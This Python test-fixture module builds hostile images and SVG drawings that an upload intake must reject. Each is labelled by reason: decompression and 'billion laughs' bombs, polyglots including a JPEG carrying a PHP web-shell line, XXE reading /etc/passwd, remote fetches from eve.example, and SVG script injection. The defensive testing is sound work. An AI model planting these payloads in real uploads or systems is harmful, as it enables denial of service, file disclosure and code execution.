"""Pictures and drawings that Eve brings to break the intake: each made here, to the byte.

`HOSTILE` names each with the reason it must be refused for.
"""

import base64
import gzip
import io
import struct
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Final

from PIL import Image, ImageDraw

from tests.bad import pictures

SVG: Final = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def picture(kind: str = "PNG", **options: object) -> bytes:
    """Return a sound picture of 64 by 64 with something to see on it."""
    image = Image.new("RGB", (64, 64), "#F4EFE6")
    ImageDraw.Draw(image).ellipse((8, 12, 50, 60), fill="#B3261E", outline="#1D1B1A")
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def drawing(
    inside: str = '<circle cx="30" cy="34" r="24" fill="#B3261E"/>', head: str = ""
) -> bytes:
    """Return a sound drawing, or one with something else inside, or before it."""
    return f'{head}<svg {SVG} viewBox="0 0 64 64">{inside}</svg>'.encode()


def half(kind: str) -> bytes:
    whole = picture(kind)
    return whole[: len(whole) // 2]


def zipped() -> bytes:
    """Return a ZIP without a member."""
    return b"PK\x05\x06" + b"\0" * 18


def png_with(chunk: bytes) -> bytes:
    end = pictures.chunk(b"IEND", b"")
    return picture().replace(end, chunk + end)


def tiff_of(width: int, height: int) -> bytes:
    """A TIFF whose one strip is deflated zeros, and which says to be of any size."""
    strip = zlib.compress(b"\0" * 100_000, 9)
    fields = [
        (256, 4, width), (257, 4, height), (258, 3, 8), (259, 3, 8), (262, 3, 1),
        (273, 4, 8), (277, 3, 1), (278, 4, height), (279, 4, len(strip)),
    ]  # fmt: skip
    rows = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in fields)
    at = 8 + len(strip)
    return (
        b"II*\0" + struct.pack("<I", at) + strip + struct.pack("<H", len(fields)) + rows + b"\0" * 4
    )


def webp_of(width: int, height: int) -> bytes:
    size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBPVP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + size
    return b"RIFF" + struct.pack("<I", len(body)) + body


def tiff_in_a_circle() -> bytes:
    whole = bytearray(tiff_of(64, 64))
    whole[-4:] = whole[4:8]
    return bytes(whole)


def gif_of_100_000_frames() -> bytes:
    frame = b",\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0"
    return b"GIF89a\x40\0\x40\0\x80\0\0\0\0\0\xff\xff\xff" + frame * 100_000 + b";"


def jpeg_of_100_000_scans() -> bytes:
    whole = picture("JPEG", progressive=True)
    scan = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x00"
    return whole[:-2] + scan * 100_000 + b"\xff\xd9"


def with_a_huge_profile() -> bytes:
    packed = zlib.compress(b"\0" * (64 * 2**20), 9)
    return png_with(pictures.chunk(b"iCCP", b"profile\0\0" + packed))


def with_a_huge_packed_text() -> bytes:
    packed = zlib.compress(b"\0" * (64 * 2**20), 9)
    return png_with(pictures.chunk(b"iTXt", b"Comment\0\x01\0\0\0" + packed))


def jpeg_with_a_huge_profile() -> bytes:
    part = b"ICC_PROFILE\0\x01\x50" + b"\0" * 65_000
    segment = b"\xff\xe2" + struct.pack(">H", len(part) + 2) + part
    whole = picture("JPEG")
    return whole[:2] + segment * 80 + whole[2:]


def of_a_million_parts() -> bytes:
    return png_with(pictures.chunk(b"tEXt", b"a\0b") * 100_000)


def jpeg_of_a_million_parts() -> bytes:
    whole = picture("JPEG")
    return whole[:2] + b"\xff\xfe\x00\x02" * 100_000 + whole[2:]


def laughing() -> bytes:
    """Ten groups, each of which uses the one before ten times: 10^10 circles."""
    groups = ['<g id="g0"><circle r="2" cx="9" cy="9"/></g>']
    for level in range(1, 11):
        uses = f'<use href="#g{level - 1}"/>' * 10
        groups.append(f'<g id="g{level}">{uses}</g>')
    return drawing("".join(groups))


def laughing_entities() -> bytes:
    lines = ['<!ENTITY a0 "ha">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 11)]
    return drawing("<text>&a10;</text>", f"<!DOCTYPE svg [{''.join(lines)}]>")


def laughing_markers() -> bytes:
    marker = '<marker id="m">' + "<path d='M0 0'/>" * 1000 + "</marker>"
    return drawing(marker + f'<path marker-mid="url(#m)" d="M0 0{"L1 1" * 10_000}"/>')


def of_a_long_chain() -> bytes:
    uses = "".join(f'<g id="c{n}"><use href="#c{n + 1}"/></g>' for n in range(5_000))
    return drawing(uses)


def embedding(content: bytes, mime: str = "image/png") -> bytes:
    data = base64.b64encode(content).decode()
    return drawing(f'<image width="64" height="64" href="data:{mime};base64,{data}"/>')


def defaulting() -> bytes:
    """An attribute's default that every element would repeat."""
    return drawing("<g/>" * 1000, f'<!DOCTYPE svg [<!ATTLIST g d CDATA "{"x" * 10_000}">]>')


Maker = Callable[[], bytes]

#: By what it is: how it is made, and the reason for which it must be refused.
HOSTILE: Final[Mapping[str, tuple[Maker, str]]] = {
    "PNG of 30,000 by 30,000": (pictures.of_30_000_by_30_000, "bomb"),
    "TIFF of 60,000 by 60,000": (lambda: tiff_of(60_000, 60_000), "bomb"),
    "TIFF in a circle": (tiff_in_a_circle, "damaged"),
    "WebP of 16,000 by 16,000": (lambda: webp_of(16_000, 16_000), "bomb"),
    "PNG with a huge profile": (with_a_huge_profile, "bomb"),
    "PNG with a huge packed text": (with_a_huge_packed_text, "bomb"),
    "PNG of 100,000 texts": (of_a_million_parts, "bomb"),
    "JPEG with a huge profile": (jpeg_with_a_huge_profile, "bomb"),
    "JPEG of 100,000 scans": (jpeg_of_100_000_scans, "bomb"),
    "JPEG of 100,000 comments": (jpeg_of_a_million_parts, "bomb"),
    "GIF of 100,000 frames": (gif_of_100_000_frames, "animated"),
    "PNG and ZIP": (lambda: picture() + zipped(), "polyglot"),
    "PNG with a ZIP inside": (lambda: png_with(pictures.chunk(b"zIPp", zipped())), "polyglot"),
    "PNG and page": (lambda: picture() + b"<html><body>", "polyglot"),
    "PNG and picture": (lambda: picture() + picture("JPEG"), "polyglot"),
    "JPEG and PHP": (lambda: picture("JPEG") + b"<?php system($_GET[0]);", "polyglot"),
    "JPEG with PHP inside": (lambda: picture("JPEG", comment=b"<?php x();"), "polyglot"),
    "JPEG that is a PDF": (lambda: picture("JPEG", comment=b"%PDF-1.7"), "polyglot"),
    "GIF and JAR": (lambda: picture("GIF") + zipped(), "polyglot"),
    "WebP and ZIP": (lambda: picture("WEBP") + zipped(), "polyglot"),
    "TIFF and ZIP": (lambda: picture("TIFF") + zipped(), "polyglot"),
    "BMP and program": (lambda: picture("BMP") + b"\x7fELF" * 10, "polyglot"),
    "a program": (pictures.not_a_picture, "not-a-picture"),
    "a page": (lambda: b"<html><body><svg></svg></body></html>", "not-a-picture"),
    "nothing": (lambda: b"", "not-a-picture"),
    "zeros": (lambda: b"\0" * 1000, "not-a-picture"),
    "a PDF": (lambda: b"%PDF-1.7\n%%EOF", "unsupported"),
    "64 MiB and a byte": (lambda: b"\0" * (64 * 2**20 + 1), "too-large"),
    "PNG of 16 by 16": (lambda: pictures.png(side_px=16), "too-small"),
    "PNG of one colour": (pictures.png, "blank"),
    "a truncated PNG": (pictures.truncated, "truncated"),
    "a PNG without an end": (pictures.without_an_end, "truncated"),
    "half a PNG": (lambda: half("PNG"), "truncated"),
    "half a JPEG": (lambda: half("JPEG"), "truncated"),
    "half a WebP": (lambda: half("WEBP"), "truncated"),
    "half a TIFF": (lambda: half("TIFF"), "truncated"),
    "half a GIF": (lambda: half("GIF"), "truncated"),
    "half a BMP": (lambda: half("BMP"), "truncated"),
    "half an AVIF": (lambda: half("AVIF"), "truncated"),
    "half a drawing": (lambda: drawing()[:90], "truncated"),
    "a drawing with an entity": (
        lambda: drawing("<text>&x;</text>", '<!DOCTYPE svg [<!ENTITY x "y">]>'), "svg-entity",
    ),
    "a drawing with an external entity": (
        lambda: drawing("<text>&x;</text>", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        "svg-entity",
    ),
    "a drawing with a document type of its own": (
        lambda: drawing(head='<!DOCTYPE svg SYSTEM "http://eve.example/svg.dtd">'), "svg-entity",
    ),
    "a drawing that laughs in entities": (laughing_entities, "svg-entity"),
    "a drawing of endless defaults": (defaulting, "svg-entity"),
    "a drawing that laughs": (laughing, "bomb"),
    "a drawing that laughs in markers": (laughing_markers, "bomb"),
    "a drawing that uses itself": (lambda: drawing('<g id="a"><use href="#a"/></g>'), "bomb"),
    "a drawing of two that use each other": (
        lambda: drawing('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'), "bomb",
    ),
    "a drawing that uses a long chain": (of_a_long_chain, "bomb"),
    "a drawing 1,000 deep": (lambda: drawing("<g>" * 1000 + "</g>" * 1000), "bomb"),
    "a drawing of 100,001 parts": (lambda: drawing("<g/>" * 100_000), "bomb"),
    "a packed drawing of 1 GB": (
        lambda: b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + _raw_deflate_of_zeros(), "bomb",
    ),
    "a drawing of many rules": (
        lambda: drawing(f"<style>{'a{fill:red}' * 5000}</style>" + "<g/>" * 5000), "bomb",
    ),
    "a drawing with a script": (lambda: drawing("<script>alert(1)</script>"), "svg-script"),
    "a drawing with a page's script": (
        lambda: drawing('<metadata><x:script xmlns:x="http://www.w3.org/1999/xhtml"/></metadata>'),
        "svg-script",
    ),
    "a drawing that listens": (lambda: drawing('<g onload="alert(1)"/>'), "svg-script"),
    "a drawing that links to a script": (
        lambda: drawing('<a href=" java&#10;script:alert(1)"><rect/></a>'), "svg-script",
    ),
    "a drawing with a page": (
        lambda: drawing("<foreignObject><div/></foreignObject>"), "svg-embedded-file",
    ),
    "a drawing that reads a file": (
        lambda: drawing('<image href="/etc/hostname" width="9" height="9"/>'), "svg-remote",
    ),
    "a drawing that reads a file by URL": (
        lambda: drawing('<image xlink:href="file:///etc/hostname" width="9" height="9"/>'),
        "svg-remote",
    ),
    "a drawing that reads a file in a filter": (
        lambda: drawing('<filter id="f"><feImage href="../a.png"/></filter>'), "svg-remote",
    ),
    "a drawing that fetches": (
        lambda: drawing('<image href="//eve.example/a.png" width="9" height="9"/>'), "svg-remote",
    ),
    "a drawing that uses another": (
        lambda: drawing('<use href="http://eve.example/a.svg#a"/>'), "svg-remote",
    ),
    "a drawing that imports a style": (
        lambda: drawing('<style>@im\\70ort "http://eve.example/a.css";</style>'), "svg-remote",
    ),
    "a drawing that names a style": (
        lambda: drawing(head='<?xml-stylesheet href="http://eve.example/a.css"?>'), "svg-remote",
    ),
    "a drawing filled from afar": (
        lambda: drawing('<rect style="fill:u\\72l(http://eve.example/a.svg#p)"/>'), "svg-remote",
    ),
    "a drawing with a program inside": (
        lambda: embedding(pictures.not_a_picture()), "not-a-picture",
    ),
    "a drawing with a drawing inside": (
        lambda: embedding(drawing(), "image/svg+xml"), "svg-embedded-file",
    ),
    "a drawing with a bomb inside": (
        lambda: embedding(pictures.of_30_000_by_30_000()), "bomb",
    ),
    "a drawing with a font inside": (
        lambda: drawing("<style>@font-face{src:url(data:font/woff;base64,AAAA)}</style>"),
        "svg-embedded-file",
    ),
    "a drawing of words": (lambda: drawing('<text y="30">Hello</text>'), "blank"),
    "a drawing that is not one": (lambda: b"<svg <<<", "damaged"),
    "a packed drawing that is not one": (lambda: gzip.compress(b"hello", mtime=0), "damaged"),
}  # fmt: skip


def _raw_deflate_of_zeros() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = b"\0" * 2**20
    return b"".join(packer.compress(block) for _ in range(64)) + packer.flush()


def sparse_file(folder: Path, num_bytes: int = 2**30) -> Path:
    """Make a file of zeros that takes no room on the disk."""
    path = folder / "zeros.png"
    with path.open("wb") as file:
        file.truncate(num_bytes)
    return path
